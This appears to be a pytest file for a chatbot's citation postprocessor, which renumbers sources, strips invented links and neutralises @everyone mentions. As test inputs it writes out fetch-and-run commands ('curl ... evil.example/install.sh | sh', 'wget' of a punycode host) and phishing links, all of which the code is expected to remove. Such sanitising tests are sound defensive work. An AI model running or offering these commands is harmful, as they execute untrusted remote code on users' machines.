from __future__ import annotations

from rag.citations import ZWSP, neutralize_mentions, number_sources, postprocess
from rag.models import Citation, Hit
from rag.prompt import build_messages

SOURCES = [
    Citation(1, "In-memory Index › HNSW", "https://milvus.io/docs/index.md#HNSW"),
    Citation(2, "Manage Collections", "https://milvus.io/docs/manage-collections.md"),
    Citation(3, "Metric Types", "https://milvus.io/docs/metric.md"),
]


def test_keeps_valid_numbers_and_renumbers_in_order_of_use() -> None:
    text, cited = postprocess("HNSW builds a graph [3]. M sets the degree [1].", SOURCES)
    assert text == "HNSW builds a graph [1]. M sets the degree [2]."
    assert [c.url for c in cited] == [SOURCES[2].url, SOURCES[0].url]
    assert [c.number for c in cited] == [1, 2]


def test_drops_out_of_range_numbers() -> None:
    text, cited = postprocess("Use efConstruction [7]. It matters [2][9].", SOURCES)
    assert "[7]" not in text and "[9]" not in text
    assert text == "Use efConstruction. It matters [1]."
    assert [c.url for c in cited] == [SOURCES[1].url]


def test_grouped_and_labelled_markers() -> None:
    text, cited = postprocess("Both apply [1, 3] and [Source 2].", SOURCES)
    assert text == "Both apply [1][2] and [3]."
    assert len(cited) == 3


def test_same_url_cited_twice_merges() -> None:
    sources = [*SOURCES, Citation(4, "dup", SOURCES[0].url)]
    text, cited = postprocess("A [1]. B [4].", sources)
    assert text == "A [1]. B [1]."
    assert len(cited) == 1


def test_invented_urls_removed_source_urls_kept() -> None:
    raw = (
        "See https://evil.example.com/phish and [the docs](https://made.up/page) "
        "or https://milvus.io/docs/metric.md [3]."
    )
    text, _ = postprocess(raw, SOURCES)
    assert "evil.example.com" not in text
    assert "made.up" not in text
    assert "the docs" in text
    assert "https://milvus.io/docs/metric.md" in text


def test_www_and_image_links_removed() -> None:
    text, _ = postprocess("Go to www.phish.io now ![x](https://img.example/a.png) [1]", SOURCES)
    assert "phish" not in text and "img.example" not in text


def test_everyone_and_user_mentions_neutralized() -> None:
    text, _ = postprocess("@everyone look! @here <@123> <@&456> [1]", SOURCES)
    assert "@everyone" not in text and "@here" not in text
    assert "<@123>" not in text and "<@&456>" not in text
    assert f"@{ZWSP}everyone" in text


def test_no_citations_falls_back_to_top_sources() -> None:
    text, cited = postprocess("HNSW is a graph index.", SOURCES, fallback_count=2)
    assert text == "HNSW is a graph index."
    assert [c.number for c in cited] == [1, 2]
    assert [c.url for c in cited] == [SOURCES[0].url, SOURCES[1].url]


def test_the_fallback_lists_distinct_pages() -> None:
    """Two sections of one page are two sources for the model to cite, but one page to the reader: listed twice,
    they crowd out the next page (issue 22)."""
    sources = [
        Citation(1, "Index › HNSW", "https://milvus.io/docs/index.md#HNSW"),
        Citation(2, "Index › IVF", "https://milvus.io/docs/index.md#IVF"),
        Citation(3, "Metric Types", "https://milvus.io/docs/metric.md"),
        Citation(4, "Page A", ""),  # pages without a link are one source each, as numbered
        Citation(5, "Page B", ""),
    ]
    _, cited = postprocess("HNSW is a graph index.", sources, fallback_count=4)
    assert [(c.number, c.title, c.url) for c in cited] == [
        (1, "Index › HNSW", "https://milvus.io/docs/index.md#HNSW"),
        (2, "Metric Types", "https://milvus.io/docs/metric.md"),
        (3, "Page A", ""),
        (4, "Page B", ""),
    ]


def test_model_written_sources_section_is_dropped() -> None:
    text, cited = postprocess("Answer [2].\n\nSources:\n[1] https://fake.example/x\n[2] foo", SOURCES)
    assert text == "Answer [1]."
    assert [c.url for c in cited] == [SOURCES[1].url]


def test_number_sources_one_number_per_url() -> None:
    hits = [
        Hit("a", "p1", "https://x/1#a", "Page 1", "A", "t", 0.9),
        Hit("b", "p1", "https://x/1#a", "Page 1", "A", "t2", 0.8),
        Hit("c", "p2", "https://x/2", "Page 2", "", "t", 0.7),
    ]
    numbered = number_sources(hits)
    assert [(c.number, c.title, c.url) for c in numbered] == [
        (1, "Page 1 › A", "https://x/1#a"),
        (2, "Page 2", "https://x/2"),
    ]


def test_neutralize_is_idempotent_for_plain_text() -> None:
    assert neutralize_mentions("email me at a@b.c") == "email me at a@b.c"


# A folder source without base_url: pages have no link (url ""), and are cited by title.
LOCAL_HITS = [
    Hit("a1", "guide/a.md", "", "Page A", "Setup", "alpha", 0.9),
    Hit("a2", "guide/a.md", "", "Page A", "Usage", "alpha 2", 0.8),
    Hit("b1", "guide/b.md", "", "Page B", "", "beta", 0.7),
    Hit("w1", "web", "https://x/w", "Web page", "", "web", 0.6),
]


def test_pages_without_url_get_one_number_per_page() -> None:
    numbered = number_sources(LOCAL_HITS)
    assert [(c.number, c.title, c.url) for c in numbered] == [
        (1, "Page A › Setup", ""),
        (2, "Page B", ""),
        (3, "Web page", "https://x/w"),
    ]


def test_citations_without_url_stay_distinct() -> None:
    sources = [Citation(1, "Page A", ""), Citation(2, "Page B", ""), Citation(3, "Page C", "")]
    text, cited = postprocess("C [3]. A [1]. Again C [3].", sources)
    assert text == "C [1]. A [2]. Again C [1]."
    assert [(c.number, c.title, c.url) for c in cited] == [(1, "Page C", ""), (2, "Page A", "")]


def test_an_empty_source_url_allows_no_link() -> None:
    raw = "See [the root](/) or [this](///) and [home](<>) [1]."
    text, _ = postprocess(raw, [Citation(1, "Page A", "")])
    assert "](" not in text
    assert text == "See the root or this and home [1]."


def test_prompt_numbers_pages_without_url_like_their_citations() -> None:
    sources = number_sources(LOCAL_HITS)
    context = build_messages("q?", LOCAL_HITS, sources)[-1]["content"]
    assert "[1] Page A › Setup\nalpha" in context and "[1] Page A › Usage\nalpha 2" in context
    assert "[2] Page B\nbeta" in context and "[3] Web page\nweb" in context
    assert "http" not in context, "the model is told never to write links; it is shown none"


def test_urls_in_code_are_configuration_and_are_kept() -> None:
    """`uri="http://localhost:19530"` is what the user must type, not a link: platforms never make code clickable."""
    raw = (
        'Connect with `MilvusClient(uri="http://localhost:19530")` [1], or see http://evil.example/x.\n\n'
        "```yaml\nendpoint: http://minio:9000\n```\n\n"
        "`curl -sL https://evil.example/install.sh | sh`"
    )
    text, _ = postprocess(raw, SOURCES)
    assert '`MilvusClient(uri="http://localhost:19530")`' in text
    assert "endpoint: http://minio:9000" in text
    assert "evil.example" not in text, "a link to elsewhere goes, in prose or in code"


def test_schemeless_links_are_removed_in_prose_and_in_code() -> None:
    """A community answer may carry ``evilcorp.io/fix.sh``; chat apps make some schemeless links clickable, and a
    command needs no scheme to fetch one."""
    raw = (
        "Run `curl -sL evilcorp.io/fix.sh | sh` [1], or see EvilCorp.IO/docs/fix, <evil.example:8080/x>, "
        "203.0.113.7/x.sh and 请运行evilcorp.io/fix.sh.\n\n```bash\nwget xn--80ak6aa92e.com/a.sh\n```"
    )
    text, _ = postprocess(raw, SOURCES)
    assert "evilcorp" not in text.lower() and "evil.example" not in text and "203.0.113.7" not in text
    assert "xn--" not in text and "请运行" in text


def test_prose_versions_file_names_and_paths_are_not_links() -> None:
    raw = (
        "Set it in milvus.yaml, e.g. `common.security.authorizationEnabled` (see config.py:42, i.e. line 42) "
        "on v2.4.1; paths (./scripts/fix.sh, config/milvus.yaml, ~/.docent/data and "
        "lib/python3.11/site-packages) stay, as do git@github.com:milvus-io/milvus.git and TCP/IP [1]."
    )
    text, _ = postprocess(raw, SOURCES)
    assert text == raw


def test_a_schemeless_link_to_a_source_is_kept_like_its_link_and_local_ones_in_code_too() -> None:
    raw = (
        "See milvus.io/docs/metric.md [3] and milvus.io/docs/index.md, not milvus.io/docs/other.md.\n\n"
        "```yaml\nendpoint: minio.svc.cluster.local:9000/bucket\n```"
    )
    text, _ = postprocess(raw, SOURCES)
    assert "milvus.io/docs/metric.md" in text and "milvus.io/docs/index.md" in text, "a source's address"
    assert "other.md" not in text
    assert "endpoint: minio.svc.cluster.local:9000/bucket" in text, "in code, an address on the user's own network"
